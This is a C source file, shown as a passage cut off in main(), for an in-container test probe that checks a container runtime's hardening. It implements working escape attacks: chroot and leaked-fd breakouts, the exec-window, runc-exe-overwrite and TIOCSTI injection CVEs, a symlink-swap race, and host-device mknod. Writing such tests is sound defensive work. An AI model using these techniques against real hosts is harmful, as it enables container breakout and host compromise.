/*
 * probe.c - the in-container probe.
 *
 * A static binary copied into the test rootfs as /bin/probe. Tests run it
 * inside containers and read facts it prints as key=value lines, so no
 * assertion depends on the free text of busybox tools. It is also the
 * attacker for the escape tests: it does, as root inside the container, what
 * a hostile workload would.
 *
 *   probe [facts]          print the facts below
 *   probe hold             facts, then "ready", then wait for stdin to close
 *   probe exit N           exit with status N
 *   probe segv             die of SIGSEGV
 *   probe trap SIG CODE    "ready", then exit CODE when SIG arrives
 *   probe orphans N        leave N exited orphans for PID 1 to reap, "ready", hold
 *   probe escape PATH      try the chroot escape; escaped=1 if PATH of the host is then visible
 *   probe pty              allocate a pseudo-terminal: pty=ok or pty=<error>
 *   probe write PATH TEXT  write=ok or write=<errno name>
 *   probe mounts           mount=<mount point> <fstype> <options>, one per mount
 *   probe pids             pids=<the numeric entries of /proc>
 *   probe hog MIB          allocate and touch MIB MiB, then allocated=MIB
 *   probe spin MS          burn CPU for MS ms of wall time, then "ready", hold
 *   probe fork N           try to fork N children: forked=<how many could be>
 *
 * Chapter 10 (the hardening of the full engine; errors are errno names):
 *   probe read PATH        read=<bytes read, at most 1 MiB> or read=<errno>
 *   probe ls PATH          entries=<names in the directory, without . and ..> or ls=<errno>
 *   probe stat PATH        stat_type (reg, dir, chr, lnk...), stat_mode (octal, with the
 *                          sticky bit), stat_uid, stat_gid, stat_rdev=MAJOR:MINOR, and
 *                          of its filesystem: statfs_type (hex magic), statfs_ro, statfs_bytes
 *   probe open-write PATH  open it O_WRONLY (no create, no truncate) and close it
 *                          without writing: open_write=ok or <errno> (safe for
 *                          /proc/sysrq-trigger: nothing is ever written)
 *   probe rewrite PATH     write back the file's own current content: rewrite=ok or <errno>
 *   probe fds              fds=<the open fds, comma-separated>
 *   probe syscall NAME     NAME=ok or <errno>: unshare-user, unshare-mount, mount-tmpfs,
 *                          mount-cgroup (a v1 hierarchy, unmounted at once),
 *                          keyctl, clone-newns, clone3, userfaultfd, bpf, setns-mnt,
 *                          vsock (socket(AF_VSOCK)), vsock-high (its family with bits
 *                          above the low 32 set)
 *   probe fd-escape FD FILE  fchdir(FD), then read FILE relative to it:
 *                          escaped=1 content=<first line> or escaped=0 errno=<errno>
 *   probe env NAME...      env.NAME=<value>, or unset.NAME=1
 *   probe tiocsti TEXT [nobody|high]
 *                          push TEXT into the input of the terminal on fd 0 with
 *                          ioctl(TIOCSTI), as if typed: tiocsti=ok|<errno>. nobody: first
 *                          become uid 65534 without capabilities; high: the request with
 *                          bits above its low 32 set (the kernel ignores them)
 *   probe ioctl tioclinux  ioctl(0, TIOCLINUX): tioclinux=ok|<errno>
 *   probe exec-window HOSTPATH
 *                          the attacker of exec's window (run with --tmpfs /etc): make
 *                          /etc/passwd a FIFO, print "ready", wait for another process to
 *                          appear (an exec blocked reading /etc/passwd, with -u) and, while
 *                          it waits, try its /proc/PID/fd (fd_open=ok|<errno>, fds=...), every fd,
 * its cwd and root: walk ".." up from each directory and read HOSTPATH (a file only the host has):
 * escaped=1 via=WHAT content=LINE or escaped=0; ptrace=ok|<errno> (PTRACE_SEIZE); then write root's
 *                          line into the FIFO, leave a plain /etc/passwd and hold
 *   probe swap PATH TARGET make PATH a directory of the container's (a file "secret" and
 *                          300 others) and PATH.alt a symlink to TARGET (a host directory),
 *                          print "ready", then swap the two names as fast as
 *                          renameat2(RENAME_EXCHANGE) goes until stdin closes: a commit
 *                          that reads PATH/secret by name may go through the link
 *   probe open PATH        open it read-only (O_NONBLOCK) and close it: open=ok|<errno>
 *   probe device TYPE MAJOR MINOR
 *                          make a node (TYPE c or b) at /dev/probe-node, then open it for
 *                          reading: mknod=ok|<errno>, open=ok|<errno> (the node is removed)
 *   probe overwrite-from SOCKET MARKER
 *                          listen on the unix socket SOCKET, print "listening", take one
 *                          fd sent with SCM_RIGHTS (a runtime's /proc/self/exe), wait
 *                          (at most 20 s) until the kernel lets it be opened for writing,
 *                          write MARKER at offset 0: exe_link=<what the fd names>,
 *                          overwrite=ok or overwrite=<errno>
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void print_file_line(const char *key, const char *path)
{
    char buf[512];
    FILE *f = fopen(path, "r");

    if (f == NULL || fgets(buf, sizeof(buf), f) == NULL) {
        printf("%s=unavailable\n", key);
    } else {
        buf[strcspn(buf, "\n")] = '\0';
        printf("%s=%s\n", key, buf);
    }
    if (f != NULL)
        fclose(f);
}

/* The value of a "Key:\tvalue" line of /proc/self/status. */
static void print_status_field(const char *key, const char *field)
{
    char line[512];
    size_t len = strlen(field);
    FILE *f = fopen("/proc/self/status", "r");

    while (f != NULL && fgets(line, sizeof(line), f) != NULL) {
        if (strncmp(line, field, len) == 0 && line[len] == ':') {
            char *v = line + len + 1;
            v += strspn(v, " \t");
            v[strcspn(v, "\n")] = '\0';
            printf("%s=%s\n", key, v);
            fclose(f);
            return;
        }
    }
    printf("%s=unavailable\n", key);
    if (f != NULL)
        fclose(f);
}

static void facts(void)
{
    static const char *const ns[] = {"pid", "mnt", "uts", "ipc", "net", "user", "cgroup"};
    char buf[256], path[64];
    ssize_t n;

    printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid());
    printf("uid=%d\ngid=%d\neuid=%d\n", (int)getuid(), (int)getgid(), (int)geteuid());
    if (gethostname(buf, sizeof(buf)) == 0)
        printf("hostname=%s\n", buf);
    if (getcwd(buf, sizeof(buf)) != NULL)
        printf("cwd=%s\n", buf);
    printf("sid=%d\n", (int)getsid(0));
    {
        /* TIOCGSID answers only for one's own controlling terminal */
        pid_t tty_sid;

        printf("stdin_ctty=%s\n", ioctl(0, TIOCGSID, &tty_sid) == 0 ? "yes" : "no");
    }
    for (size_t i = 0; i < sizeof(ns) / sizeof(ns[0]); i++) {
        snprintf(path, sizeof(path), "/proc/self/ns/%s", ns[i]);
        n = readlink(path, buf, sizeof(buf) - 1);
        buf[n < 0 ? 0 : n] = '\0';
        printf("ns_%s=%s\n", ns[i], n < 0 ? "unavailable" : buf);
    }
    print_file_line("uid_map", "/proc/self/uid_map");
    print_file_line("gid_map", "/proc/self/gid_map");
    print_file_line("cgroup", "/proc/self/cgroup");
    print_status_field("cap_eff", "CapEff");
    print_status_field("cap_bnd", "CapBnd");
    print_status_field("nspid", "NSpid");
    print_status_field("cap_prm", "CapPrm");
    print_status_field("cap_inh", "CapInh");
    print_status_field("cap_amb", "CapAmb");
    print_status_field("nnp", "NoNewPrivs");
    print_status_field("seccomp", "Seccomp");
    {
        gid_t groups[64];
        int n_groups = getgroups(64, groups);

        printf("groups=");
        for (int i = 0; i < n_groups; i++)
            printf("%s%d", i ? "," : "", (int)groups[i]);
        printf("\n");
    }
    fflush(stdout);
}

static void hold(void)
{
    char c;

    printf("ready\n");
    fflush(stdout);
    while (read(0, &c, 1) > 0)
        ;
}

static int exit_code;
static void on_signal(int sig)
{
    (void)sig;
    _exit(exit_code);
}

static int trap(const char *signame, const char *code)
{
    int sig = atoi(signame);

    if (sig <= 0)
        sig = strcmp(signame, "INT") == 0 ? SIGINT : strcmp(signame, "HUP") == 0 ? SIGHUP : SIGTERM;
    exit_code = atoi(code);
    signal(sig, on_signal);
    printf("ready\n");
    fflush(stdout);
    for (;;)
        pause();
    return 0;
}

static int orphans(int n)
{
    for (int i = 0; i < n; i++) {
        pid_t child = fork();

        if (child == 0) {
            /* The grandchild outlives its parent, so it is re-parented to
             * PID 1, then exits: a zombie until PID 1 reaps it. */
            if (fork() == 0) {
                usleep(20000);
                _exit(0);
            }
            _exit(0);
        }
        waitpid(child, NULL, 0);
    }
    usleep(200000);
    hold();
    return 0;
}

static int escape(const char *marker)
{
    char dir[] = "/tmp/escape.XXXXXX";
    int outside;

    if (mkdtemp(dir) == NULL) {
        printf("escape_error=mkdtemp: %s\n", strerror(errno));
        return 1;
    }
    outside = open("/", O_RDONLY | O_DIRECTORY);
    /* chroot into a subdirectory while keeping a fd to "/": the cwd is now
     * outside the new root, where ".." is not stopped by it. */
    if (outside < 0 || chroot(dir) < 0 || fchdir(outside) < 0) {
        printf("escape_error=%s\n", strerror(errno));
        return 1;
    }
    /* The cwd is still the old "/": remove the dir by its relative path, so
     * no escape.* is left in the rootfs (it stays usable as our root). */
    rmdir(dir + 1);
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        printf("escape_error=chroot .: %s\n", strerror(errno));
        return 1;
    }
    printf("escaped=%d\n", access(marker, F_OK) == 0);
    return 0;
}

static int pty(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY), slave;
    char *name;

    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 ||
        (name = ptsname(master)) == NULL || (slave = open(name, O_RDWR | O_NOCTTY)) < 0) {
        printf("pty=%s\n", strerror(errno));
        return 1;
    }
    printf("pty=ok\npty_name=%s\n", name);
    return 0;
}

static int write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

    if (fd < 0 || write(fd, text, strlen(text)) < 0) {
        printf("write=%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "error");
        return 1;
    }
    close(fd);
    printf("write=ok\n");
    return 0;
}

static int mounts(void)
{
    char line[4096], mp[1024], opts[512], fstype[128];
    FILE *f = fopen("/proc/self/mountinfo", "r");

    if (f == NULL) {
        printf("mounts=unavailable\n");
        return 1;
    }
    while (fgets(line, sizeof(line), f) != NULL) {
        char *dash = strstr(line, " - ");
        if (dash == NULL || sscanf(line, "%*s %*s %*s %*s %1023s %511s", mp, opts) != 2 ||
            sscanf(dash + 3, "%127s", fstype) != 1)
            continue;
        printf("mount=%s %s %s\n", mp, fstype, opts);
    }
    fclose(f);
    return 0;
}

static int pids(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;

    printf("pids=");
    while (d != NULL && (e = readdir(d)) != NULL)
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            printf("%s ", e->d_name);
    printf("\n");
    return d == NULL;
}

static int hog(int mib)
{
    for (int i = 0; i < mib; i++) {
        char *chunk = malloc(1 << 20);

        if (chunk == NULL) {
            printf("allocated=%d\nerror=malloc failed\n", i);
            return 1;
        }
        memset(chunk, 0x5a, 1 << 20); /* touch every page: charge it */
    }
    printf("allocated=%d\n", mib);
    return 0;
}

static long long now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int spin(int ms)
{
    long long end = now_ms() + ms;
    volatile unsigned long x = 0;

    while (now_ms() < end)
        for (int i = 0; i < 100000; i++)
            x += (unsigned long)i;
    hold();
    return 0;
}

static int fork_many(int n)
{
    pid_t kids[4096];
    int forked = 0;

    for (int i = 0; i < n && i < 4096; i++) {
        pid_t pid = fork();

        if (pid == 0) {
            pause();
            _exit(0);
        }
        if (pid < 0)
            break;
        kids[forked++] = pid;
    }
    printf("forked=%d\n", forked);
    for (int i = 0; i < forked; i++) {
        kill(kids[i], SIGKILL);
        waitpid(kids[i], NULL, 0);
    }
    return 0;
}

/* Chapter 10: what a hostile workload tries, and what the hardening shows. */

/* The errno's name ("EPERM"): tests compare names, not messages. */
static const char *errname(int e)
{
    static char buf[32];
    const char *name = strerrorname_np(e);

    if (name != NULL)
        return name;
    snprintf(buf, sizeof(buf), "errno%d", e);
    return buf;
}

static int read_path(const char *path)
{
    char buf[65536];
    long long total = 0;
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    if (fd < 0) {
        printf("read=%s\n", errname(errno));
        return 1;
    }
    while (total < (1 << 20) && (n = read(fd, buf, sizeof(buf))) > 0)
        total += n;
    if (n < 0 && total == 0) {
        printf("read=%s\n", errname(errno));
        close(fd);
        return 1;
    }
    close(fd);
    printf("read=%lld\n", total);
    return 0;
}

static int list_dir(const char *path)
{
    DIR *d = opendir(path);
    struct dirent *e;
    int n = 0;

    if (d == NULL) {
        printf("ls=%s\n", errname(errno));
        return 1;
    }
    while ((e = readdir(d)) != NULL)
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
            n++;
    closedir(d);
    printf("entries=%d\n", n);
    return 0;
}

static int stat_path(const char *path)
{
    struct stat st;
    struct statfs sf;
    struct statvfs sv;
    const char *type;

    if (lstat(path, &st) < 0) {
        printf("stat=%s\n", errname(errno));
        return 1;
    }
    type = S_ISREG(st.st_mode)    ? "reg"
           : S_ISDIR(st.st_mode)  ? "dir"
           : S_ISCHR(st.st_mode)  ? "chr"
           : S_ISBLK(st.st_mode)  ? "blk"
           : S_ISLNK(st.st_mode)  ? "lnk"
           : S_ISFIFO(st.st_mode) ? "fifo"
                                  : "sock";
    printf("stat_type=%s\nstat_mode=%o\nstat_uid=%d\nstat_gid=%d\nstat_rdev=%u:%u\n", type,
           (unsigned)(st.st_mode & 07777), (int)st.st_uid, (int)st.st_gid, major(st.st_rdev),
           minor(st.st_rdev));
    if (statfs(path, &sf) == 0 && statvfs(path, &sv) == 0)
        printf("statfs_type=0x%lx\nstatfs_ro=%d\nstatfs_bytes=%llu\n", (unsigned long)sf.f_type,
               (sv.f_flag & ST_RDONLY) != 0,
               (unsigned long long)sv.f_blocks * (unsigned long long)sv.f_frsize);
    return 0;
}

static int open_write(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);

    if (fd < 0) {
        printf("open_write=%s\n", errname(errno));
        return 1;
    }
    close(fd);
    printf("open_write=ok\n");
    return 0;
}

/* Write back what the file holds: a write that changes nothing, so it can be
 * tried on /proc/sys/kernel/core_pattern of any host. */
static int rewrite(const char *path)
{
    char buf[4096];
    ssize_t n;
    int fd = open(path, O_RDONLY | O_CLOEXEC);

    if (fd < 0 || (n = read(fd, buf, sizeof(buf))) < 0) {
        printf("rewrite=%s\n", errname(errno));
        return 1;
    }
    close(fd);
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, buf, (size_t)n) < 0) {
        printf("rewrite=%s\n", errname(errno));
        return 1;
    }
    close(fd);
    printf("rewrite=ok\n");
    return 0;
}

static int fds(void)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    int first = 1, mine = d != NULL ? dirfd(d) : -1, list[1024], n = 0;

    if (d == NULL) {
        printf("fds=%s\n", errname(errno));
        return 1;
    }
    while ((e = readdir(d)) != NULL && n < 1024)
        if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && atoi(e->d_name) != mine)
            list[n++] = atoi(e->d_name);
    closedir(d);
    /* readdir gives them in order already; sort anyway, the output is compared */
    for (int i = 1; i < n; i++)
        for (int j = i; j > 0 && list[j - 1] > list[j]; j--) {
            int t = list[j];
            list[j] = list[j - 1];
            list[j - 1] = t;
        }
    printf("fds=");
    for (int i = 0; i < n; i++, first = 0)
        printf("%s%d", first ? "" : ",", list[i]);
    printf("\n");
    return 0;
}

/* A child made by a raw clone/clone3 system call exits at once; 0 when it
 * was made. */
static int reap(long pid)
{
    if (pid < 0)
        return -1;
    if (pid == 0)
        _exit(0);
    waitpid((pid_t)pid, NULL, 0);
    return 0;
}

/* A scratch mount point; "" when none could be made. */
static char *scratch_dir(char *buf, size_t len)
{
    snprintf(buf, len, "/tmp/probe.XXXXXX");
    if (mkdtemp(buf) != NULL)
        return buf;
    snprintf(buf, len, "/dev/shm/probe.XXXXXX");
    if (mkdtemp(buf) != NULL)
        return buf;
    buf[0] = '\0';
    return buf;
}

static int try_mount(const char *type, const char *options)
{
    char dir[64];
    int ret, saved;

    if (scratch_dir(dir, sizeof(dir))[0] == '\0')
        return -1;
    ret = mount("none", dir, type, 0, options);
    saved = errno;
    if (ret == 0)
        umount2(dir, MNT_DETACH); /* release_agent is never touched */
    rmdir(dir);
    errno = saved;
    return ret;
}

#ifndef SYS_clone3
#define SYS_clone3 435 /* the same number on every architecture */
#endif

static int syscall_try(const char *name)
{
    long ret;

    errno = 0;
    if (strcmp(name, "unshare-user") == 0) {
        ret = unshare(CLONE_NEWUSER);
    } else if (strcmp(name, "unshare-mount") == 0) {
        ret = unshare(CLONE_NEWNS);
    } else if (strcmp(name, "mount-tmpfs") == 0) {
        ret = try_mount("tmpfs", NULL);
    } else if (strcmp(name, "mount-cgroup") == 0) {
        /* The first step of the cgroup v1 release_agent escape: mount a v1
         * hierarchy, whose release_agent the kernel runs as host root. In a
         * cgroup namespace only existing hierarchies can be mounted: take
         * the first v1 one of /proc/self/cgroup ("4:memory:/..."). */
        char line[512], options[256] = "none,name=mbprobe";
        FILE *f = fopen("/proc/self/cgroup", "r");

        while (f != NULL && fgets(line, sizeof(line), f) != NULL) {
            char *c1 = strchr(line, ':'), *c2 = c1 ? strchr(c1 + 1, ':') : NULL;
            if (c2 != NULL && c2 > c1 + 1 && strncmp(line, "0:", 2) != 0) {
                *c2 = '\0';
                snprintf(options, sizeof(options), "%s", c1 + 1);
                break;
            }
        }
        if (f != NULL)
            fclose(f);
        printf("cgroup_hierarchy=%s\n", options);
        ret = try_mount("cgroup", options);
    } else if (strcmp(name, "keyctl") == 0) {
        /* KEYCTL_GET_KEYRING_ID (0) of KEY_SPEC_SESSION_KEYRING (-3): the
         * kernel keyring is not namespaced. */
        ret = syscall(SYS_keyctl, 0, -3, 0);
    } else if (strcmp(name, "clone-newns") == 0) {
        ret = reap(syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0));
    } else if (strcmp(name, "clone3") == 0) {
        uint64_t args[8] = {0}; /* struct clone_args, version 0 */

        args[4] = SIGCHLD; /* exit_signal */
        ret = reap(syscall(SYS_clone3, args, sizeof(args)));
    } else if (strcmp(name, "userfaultfd") == 0) {
        /* UFFD_USER_MODE_ONLY (1): allowed without any capability */
        ret = syscall(SYS_userfaultfd, O_CLOEXEC | 1);
        if (ret >= 0)
            close((int)ret);
    } else if (strcmp(name, "bpf") == 0) {
        /* BPF_MAP_CREATE (0) of a one-entry BPF_MAP_TYPE_ARRAY (2) */
        uint32_t attr[32] = {2, 4, 4, 1};

        ret = syscall(SYS_bpf, 0, attr, sizeof(attr));
        if (ret >= 0)
            close((int)ret);
    } else if (strcmp(name, "vsock") == 0 || strcmp(name, "vsock-high") == 0) {
        /* AF_VSOCK (40): the socket between a VM and its hypervisor */
        unsigned long family = 40 | (strcmp(name, "vsock-high") == 0 ? 1UL << 32 : 0);

        ret = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (ret >= 0)
            close((int)ret);
    } else if (strcmp(name, "setns-mnt") == 0) {
        int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);

        ret = fd < 0 ? -1 : setns(fd, CLONE_NEWNS);
    } else {
        fprintf(stderr, "probe: unknown syscall '%s'\n", name);
        return 2;
    }
    printf("%s=%s\n", name, ret < 0 ? errname(errno) : "ok");
    return 0;
}

/* CVE-2024-21626: a directory fd the runtime let through is a way out of the
 * root; paths relative to it are resolved on the host. */
static int fd_escape(const char *fd_text, const char *file)
{
    char line[512] = "";
    FILE *f;

    if (fchdir(atoi(fd_text)) < 0) {
        printf("escaped=0\nerrno=%s\n", errname(errno));
        return 0;
    }
    f = fopen(file, "r");
    if (f == NULL) {
        printf("escaped=0\nerrno=%s\n", errname(errno));
        return 0;
    }
    if (fgets(line, sizeof(line), f) == NULL)
        line[0] = '\0';
    fclose(f);
    line[strcspn(line, "\n")] = '\0';
    printf("escaped=1\ncontent=%s\n", line);
    return 0;
}

/* The attack of CVE-2017-5226: a process sharing the terminal of whoever
 * started the sandbox types a command into it. The kernel lets TIOCSTI in
 * only on the caller's controlling terminal, or with CAP_SYS_ADMIN. */
static int tiocsti(const char *text, const char *how)
{
    unsigned long request = TIOCSTI;

    if (how != NULL && strcmp(how, "nobody") == 0 &&
        (setgroups(0, NULL) < 0 || setgid(65534) < 0 || setuid(65534) < 0)) {
        printf("tiocsti=setuid:%s\n", errname(errno));
        return 1;
    }
    if (how != NULL && strcmp(how, "high") == 0)
        request |= 1UL << 32;
    for (const char *c = text; *c != '\0'; c++)
        if (syscall(SYS_ioctl, 0, request, c) < 0) {
            printf("tiocsti=%s\n", errname(errno));
            return 0;
        }
    printf("tiocsti=ok\n");
    return 0;
}

static int ioctl_try(const char *name)
{
    char subcode = 6; /* TIOCL_GETSHIFTSTATE: only reads */
    long ret;

    if (strcmp(name, "tioclinux") != 0) {
        fprintf(stderr, "probe: unknown ioctl '%s'\n", name);
        return 2;
    }
    ret = syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX, &subcode);
    printf("%s=%s\n", name, ret < 0 ? errname(errno) : "ok");
    return 0;
}

/* From a directory fd, walk ".." to the top of its filesystem tree, then
 * read `host_path` there: 1 and its first line when it exists, i.e. the
 * directory was a way out to the host's "/". */
static int walk_out(int dir, const char *host_path, char *line, size_t len)
{
    int cur = dup(dir), file;
    FILE *f;

    for (int up = 0; cur >= 0 && up < 64; up++) {
        int next = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        close(cur);
        cur = next;
    }
    if (cur < 0)
        return 0;
    file = openat(cur, host_path + 1, O_RDONLY | O_CLOEXEC);
    close(cur);
    if (file < 0 || (f = fdopen(file, "r")) == NULL)
        return 0;
    line[0] = '\0';
    if (fgets(line, (int)len, f) != NULL)
        line[strcspn(line, "\n")] = '\0';
    fclose(f);
    return 1;
}

/* CVE-2016-9962 (runc exec): between joining the container and execve, the
 * runtime's process is in the container, root with the host's
 * capabilities, and holds whatever fds it had. The container's root may
 * look at it through /proc while it waits for the container's own
 * /etc/passwd, which the attacker made a FIFO. */
static int exec_window(const char *host_path)
{
    static const char passwd[] = "root:x:0:0:root:/root:/bin/sh\n";
    char path[300], line[256], via[300] = "";
    int escaped = 0, self = getpid(), pid = 0, fd;
    long long deadline = now_ms() + 20000;
    DIR *d;
    struct dirent *e;

    if (mkfifo("/etc/passwd", 0644) < 0) {
        printf("exec_window=%s\n", errname(errno));
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    while (pid == 0 && now_ms() < deadline) {
        DIR *proc = opendir("/proc");

        while (proc != NULL && (e = readdir(proc)) != NULL)
            if (atoi(e->d_name) > 1 && atoi(e->d_name) != self)
                pid = atoi(e->d_name);
        if (proc != NULL)
            closedir(proc);
        if (pid == 0)
            usleep(1000);
    }
    printf("window_pid=%d\n", pid);
    if (pid == 0)
        return 1;
    usleep(100000); /* well inside the window: it waits on the FIFO */
    /* Listing /proc/PID/fd is root's (its owner); opening an entry is a
     * ptrace access check, the one that counts. */
    snprintf(path, sizeof(path), "/proc/%d/fd/0", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    printf("fd_open=%s\n", fd >= 0 ? "ok" : errname(errno));
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    d = opendir(path);
    printf("fds=");
    while (d != NULL && (e = readdir(d)) != NULL) {
        struct stat st;

        if (e->d_name[0] == '.')
            continue;
        printf("%s ", e->d_name);
        snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && !escaped &&
            walk_out(fd, host_path, line, sizeof(line))) {
            escaped = 1;
            snprintf(via, sizeof(via), "fd %s", e->d_name);
        }
        if (fd >= 0)
            close(fd);
    }
    printf("\n");
    if (d != NULL)
        closedir(d);
    for (int i = 0; i < 2 && !escaped; i++) {
        snprintf(path, sizeof(path), "/proc/%d/%s", pid, i ? "root" : "cwd");
        fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0 && walk_out(fd, host_path, line, sizeof(line))) {
            escaped = 1;
            snprintf(via, sizeof(via), "%s", i ? "root" : "cwd");
        }
        if (fd >= 0)
            close(fd);
    }
    /* PTRACE_ATTACH stops it: wait for the stop, then let it go. */
    if (syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0) == 0) {
        printf("ptrace=ok\n");
        waitpid(pid, NULL, __WALL);
        syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
    } else {
        printf("ptrace=%s\n", errname(errno));
    }
    if (escaped)
        printf("escaped=1\nvia=%s\ncontent=%s\n", via, line);
    else
        printf("escaped=0\n");
    fflush(stdout);
    /* Let exec go on: the FIFO has its reader; later opens get a file. */
    fd = open("/etc/passwd", O_WRONLY | O_CLOEXEC);
    unlink("/etc/passwd");
    {
        int file = open("/etc/passwd", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);

        if (file >= 0) {
            (void)!write(file, passwd, strlen(passwd));
            close(file);
        }
    }
    if (fd >= 0) {
        (void)!write(fd, passwd, strlen(passwd));
        close(fd);
    }
    while (read(0, line, 1) > 0) /* hold until stdin closes */
        ;
    return 0;
}

static int swap(const char *path, const char *target)
{
    char alt[4200], c;
    pid_t child;
    FILE *f;

    snprintf(alt, sizeof(alt), "%s.alt", path);
    unlink(alt);
    if (mkdir(path, 0755) < 0 || symlink(target, alt) < 0) {
        printf("swap=%s\n", errname(errno));
        return 1;
    }
    /* Many names: a commit that walks PATH by name spends a while in it. */
    for (int i = 0; i <= 300; i++) {
        char file[4300];

        if (i < 300)
            snprintf(file, sizeof(file), "%s/f%d", path, i);
        else
            snprintf(file, sizeof(file), "%s/secret", path);
        f = fopen(file, "w");
        if (f == NULL || fputs("the container's own\n", f) < 0 || fclose(f) != 0) {
            printf("swap=%s\n", errname(errno));
            return 1;
        }
    }
    printf("ready\n");
    fflush(stdout);
    child = fork();
    if (child == 0)
        for (;;)
            if (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, alt, 2 /* RENAME_EXCHANGE */) < 0)
                _exit(1);
    while (read(0, &c, 1) > 0)
        ;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

static int open_path(const char *path)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

    printf("open=%s\n", fd < 0 ? errname(errno) : "ok");
    if (fd >= 0)
        close(fd);
    return 0;
}

/* A root attacker's way to the host's disk: make a node for its
 * major:minor (CAP_MKNOD is in Docker's default set) and open it. Only the
 * open is the attack; the device cgroup lets mknod through, as Docker's. */
static int device(const char *type, const char *major, const char *minor)
{
    static const char node[] = "/dev/probe-node";
    mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
    int fd;

    unlink(node);
    if (mknod(node, kind | 0600, makedev(atoi(major), atoi(minor))) < 0) {
        printf("mknod=%s\n", errname(errno));
        return 1;
    }
    printf("mknod=ok\n");
    fd = open(node, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    printf("open=%s\n", fd < 0 ? errname(errno) : "ok");
    if (fd >= 0)
        close(fd);
    unlink(node);
    return 0;
}

static int env(int argc, char **argv)
{
    for (int i = 2; i < argc; i++) {
        const char *value = getenv(argv[i]);

        if (value != NULL)
            printf("env.%s=%s\n", argv[i], value);
        else
            printf("unset.%s=1\n", argv[i]);
    }
    return 0;
}

/* CVE-2019-5736, the half that outlives the runtime: another container
 * process hands over a fd of its runtime's /proc/self/exe. The kernel
 * refuses to open a running program for writing (ETXTBSY); once the last
 * runtime process running it has ended, a file on the host's disk can be
 * written through the fd. */
static int overwrite_from(const char *path, const char *marker)
{
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    char cbuf[CMSG_SPACE(sizeof(int))], byte, fdpath[64], link[512];
    struct iovec iov = {&byte, 1};
    struct msghdr msg = {
        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
    struct cmsghdr *cmsg;
    long long deadline = now_ms() + 20000;
    int lfd, conn, exe = -1, wfd = -1;
    ssize_t n;

    snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
    unlink(path);
    lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (lfd < 0 || bind(lfd, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(lfd, 1) < 0) {
        printf("overwrite=%s\n", errname(errno));
        return 1;
    }
    printf("listening\n");
    fflush(stdout);
    conn = accept(lfd, NULL, NULL);
    if (conn < 0 || recvmsg(conn, &msg, 0) < 0) {
        printf("overwrite=%s\n", errname(errno));
        return 1;
    }
    for (cmsg = CMSG_FIRSTHDR(&msg); cmsg != NULL; cmsg = CMSG_NXTHDR(&msg, cmsg))
        if (cmsg->cmsg_level == SOL_SOCKET && cmsg->cmsg_type == SCM_RIGHTS)
            memcpy(&exe, CMSG_DATA(cmsg), sizeof(int));
    close(conn);
    unlink(path);
    if (exe < 0) {
        printf("overwrite=nofd\n");
        return 1;
    }
    snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", exe);
    n = readlink(fdpath, link, sizeof(link) - 1);
    link[n < 0 ? 0 : n] = '\0';
    printf("exe_link=%s\n", link);
    while ((wfd = open(fdpath, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY &&
           now_ms() < deadline)
        usleep(5000);
    if (wfd < 0 || pwrite(wfd, marker, strlen(marker), 0) < 0) {
        printf("overwrite=%s\n", errname(errno));
        return 1;
    }
    close(wfd);
    printf("overwrite=ok\n");
    return 0;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "facts";

